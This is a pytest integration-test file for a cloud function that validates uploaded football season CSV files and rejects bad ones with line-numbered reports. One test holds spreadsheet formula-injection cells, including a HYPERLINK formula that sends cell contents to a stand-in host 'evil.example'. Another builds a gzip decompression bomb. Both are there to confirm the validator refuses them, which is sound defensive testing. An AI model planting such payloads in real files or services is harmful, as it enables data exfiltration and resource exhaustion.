"""Bad season files through a real upload: each is rejected whole, its report names the bad
lines, nothing of it is written, and the function neither fails the event nor runs out of memory.

The large files' figures (times, and the function's peak memory) are printed after the results.
"""

import gzip
import time
from dataclasses import dataclass

import google.cloud.storage as storage
import pytest

from ingest.lines import MAX_FILE_BYTES
from tests.integration.ingest.conftest import (
    Uploads,
    memory_now_mib,
    peak_memory_mib,
    put,
    report_of,
    season_documents,
)

pytestmark = pytest.mark.emulators

ROW = "Liverpool,Mohamed Salah,Egypt,Forward,38,22,8,1079,5,21,25,135\r\n"
MATIP = "Liverpool,Joël Matip,Cameroon,Defender,22,1,0,1341,31,39,11,18\r\n"
TABLE_HEADER = "Club;Played;Won;Drawn;Lost;GF;GA;GD;Points\r\n"
FIFTY_MB = 50 * 1024 * 1024
# What the function may grow by, at its peak, for a file it refuses: far less than the file (a
# copy of 50 MB, as bytes and then as text, would be 100 MiB more).
PEAK_GROWTH_MIB = 20
# A function's default memory on Cloud Functions (2nd gen); a file at the limit loads within it.
LOAD_PEAK_MIB = 256


def rejection(uploads: Uploads, firestore_client, season: str, blob) -> dict[int, str]:
    """The bad lines of a rejected upload, once its report is in; checks nothing was written and
    the function still runs."""
    report = report_of(firestore_client, blob)
    assert report["status"] == "rejected", report
    assert season_documents(firestore_client, season) == {}
    assert uploads.function.poll() is None
    assert report["error_count"] >= len(report["errors"]) > 0
    return {error["line"]: error["reason"] for error in report["errors"]}


def club_file(season: str) -> str:
    return f"seasons/{season}/Liverpool.csv"


@dataclass(frozen=True)
class Measured:
    blob: storage.Blob
    report: dict
    seconds: float  # from the start of the upload to the report
    before_mib: float  # what the function held just before
    peak_mib: float  # the function's peak while it handled the file

    def figures(self) -> dict[str, str]:
        return {
            "reported": f"{self.seconds:.1f} s after its upload began",
            "function held": f"{self.before_mib:.0f} MiB",
            "function peak": f"{self.peak_mib:.0f} MiB",
        }


def measured_upload(
    uploads: Uploads, firestore_client, season: str, content: bytes, encoding: str | None = None
) -> Measured:
    """Uploads a club file once the function has loaded one (its clients built, its modules
    loaded), and measures the time to its report and the function's memory meanwhile."""
    warm_up = put(uploads.bucket, f"seasons/{season}-warm-up/Liverpool.csv", ROW)
    assert report_of(firestore_client, warm_up)["status"] == "loaded"
    before = memory_now_mib(uploads)
    started = time.monotonic()
    blob = put(uploads.bucket, club_file(season), content, content_encoding=encoding)
    report = report_of(firestore_client, blob)
    seconds = time.monotonic() - started
    return Measured(blob, report, seconds, before, peak_memory_mib(uploads))


def test_rows_with_the_wrong_column_count(module_uploads, firestore_client, season):
    content = ROW + "Liverpool,Joe Gomez,England,Defender\r\n" + MATIP.replace("\r", ",7\r")
    blob = put(module_uploads.bucket, club_file(season), content)

    assert rejection(module_uploads, firestore_client, season, blob) == {
        2: "expected 12 columns, found 4",
        3: "expected 12 columns, found 13",
    }


def test_text_in_a_number_column(module_uploads, firestore_client, season):
    content = ROW + MATIP.replace(",22,", ",twenty-two,")
    blob = put(module_uploads.bucket, club_file(season), content)

    assert rejection(module_uploads, firestore_client, season, blob) == {
        2: "appearances must be a whole number >= 0, got 'twenty-two'"
    }


def test_negative_numbers(module_uploads, firestore_client, season):
    content = ROW.replace(",135", ",-135") + MATIP.replace(",1,0,", ",-1,0,")
    blob = put(module_uploads.bucket, club_file(season), content)

    assert rejection(module_uploads, firestore_client, season, blob) == {
        1: "price must be a whole number >= 0, got '-135'",
        2: "goals must be a whole number >= 0, got '-1'",
    }


def test_a_table_whose_figures_do_not_add_up(module_uploads, firestore_client, season):
    content = (
        TABLE_HEADER + "Liverpool;38;30;7;1;89;22;67;97\r\n"  # 3 x 30 + 7 = 97: right
        "Chelsea;38;21;9;8;63;39;24;70\r\n"  # 3 x 21 + 9 = 72
        "Arsenal;38;21;7;10;73;51;22;70\r\n"  # 3 x 21 + 7 = 70, and 73 - 51 = 22: right
        "Everton;38;15;9;14;54;46;-8;54\r\n"  # 54 - 46 = 8
    )
    blob = put(module_uploads.bucket, f"seasons/{season}/Teams.csv", content)

    assert rejection(module_uploads, firestore_client, season, blob) == {
        3: "points is 70 but should be 72",
        5: "goal_difference is -8 but should be 8",
    }


def test_an_empty_file(module_uploads, firestore_client, season):
    blob = put(module_uploads.bucket, club_file(season), b"")

    assert rejection(module_uploads, firestore_client, season, blob) == {1: "the file has no rows"}


def test_a_file_that_is_not_utf8(module_uploads, firestore_client, season):
    # As a spreadsheet on Windows saves it: Latin-1, where ë is the one byte 0xEB.
    content = (ROW + MATIP + ROW.replace("Mohamed Salah", "Adrián")).encode("cp1252")
    blob = put(module_uploads.bucket, club_file(season), content)

    assert rejection(module_uploads, firestore_client, season, blob) == {
        2: "not UTF-8 text: byte 0xEB at character 13; save it as UTF-8",
        3: "not UTF-8 text: byte 0xE1 at character 15; save it as UTF-8",
    }


def test_cells_a_spreadsheet_would_run_as_formulas(module_uploads, firestore_client, season):
    formulas = [
        '"=HYPERLINK(""https://evil.example/?""&A1,""Salah"")"',
        "+1-2",
        "-Salah",
        "@SUM(A1:A9)",
        "\tSalah",
        '"\rSalah"',
    ]
    rows = [ROW.replace("Mohamed Salah", f"Player {n}") for n in range(len(formulas))]
    content = "".join(
        row.replace("Egypt", formula) for row, formula in zip(rows, formulas, strict=True)
    )
    blob = put(module_uploads.bucket, club_file(season), content)

    reasons = rejection(module_uploads, firestore_client, season, blob)

    # A row is numbered by the line it starts on, though the quoted carriage return starts one.
    assert sorted(reasons) == [1, 2, 3, 4, 5, 6]
    assert all("which makes it a spreadsheet formula" in reason for reason in reasons.values())
    assert reasons[1].startswith("nationality must not start with '='")


def test_a_50_mb_file_is_refused_unread(module_uploads, firestore_client, season, figures):
    content = ROW.encode() * (FIFTY_MB // len(ROW) + 1)

    measured = measured_upload(module_uploads, firestore_client, season, content)

    figures("a 50 MB season file", size=f"{len(content):,} bytes", **measured.figures())
    assert rejection(module_uploads, firestore_client, season, measured.blob) == {
        1: f"the file is {len(content):,} bytes, over the limit of {MAX_FILE_BYTES:,} bytes "
        "(1 MiB): it was not read"
    }
    assert measured.peak_mib - measured.before_mib < PEAK_GROWTH_MIB


def test_a_gzip_encoded_file_that_unpacks_to_50_mb_is_refused_at_the_limit(
    module_uploads, firestore_client, season, figures
):
    content = ROW.encode() * (FIFTY_MB // len(ROW) + 1)
    packed = gzip.compress(content, compresslevel=9)
    assert len(packed) < MAX_FILE_BYTES  # stored small: only reading it shows its size

    measured = measured_upload(module_uploads, firestore_client, season, packed, "gzip")

    figures(
        "a gzip-encoded season file unpacking to 50 MB",
        size=f"{len(packed):,} bytes, unpacking to {len(content):,}",
        **measured.figures(),
    )
    line = MAX_FILE_BYTES // len(ROW) + 1
    assert rejection(module_uploads, firestore_client, season, measured.blob) == {
        line: f"the file is over the limit of {MAX_FILE_BYTES:,} bytes (1 MiB): nothing from "
        "this line on was read"
    }
    assert measured.peak_mib - measured.before_mib < PEAK_GROWTH_MIB


def test_a_gzip_encoded_file_cut_short(module_uploads, firestore_client, season):
    packed = gzip.compress("".join(ROW.replace("Salah", f"Salah {n}") for n in range(900)).encode())
    blob = put(module_uploads.bucket, club_file(season), packed[:-100], content_encoding="gzip")

    ((line, reason),) = rejection(module_uploads, firestore_client, season, blob).items()
    assert reason.startswith("not gzip as its Content-Encoding says (Compressed file ended")
    assert reason.endswith("nothing from this line on could be read")
    assert 800 < line <= 900


def test_a_gzip_encoded_file_loads_as_the_plain_file_does(module_uploads, firestore_client, season):
    packed = gzip.compress((ROW + MATIP).encode())
    blob = put(module_uploads.bucket, club_file(season), packed, content_encoding="gzip")

    assert report_of(firestore_client, blob)["rows"] == 2
    players = [path for path in season_documents(firestore_client, season) if "/players/" in path]
    assert len(players) == 2


def test_a_file_just_under_the_limit_loads_whole_within_bounded_memory(
    module_uploads, firestore_client, season, figures
):
    """The largest file the function takes, as the loads the limit is meant to leave room for."""
    rows = [ROW.replace("Mohamed Salah", f"Player {n:05}") for n in range(20_000)]
    content = "".join(rows[: MAX_FILE_BYTES // len(rows[0])]).encode()

    measured = measured_upload(module_uploads, firestore_client, season, content)

    figures(
        "a season file just under the 1 MiB limit",
        size=f"{len(content):,} bytes, {len(content.splitlines()):,} rows",
        **measured.figures(),
    )
    assert measured.report["status"] == "loaded"
    assert measured.report["rows"] == len(content.splitlines())
    assert measured.peak_mib < LOAD_PEAK_MIB
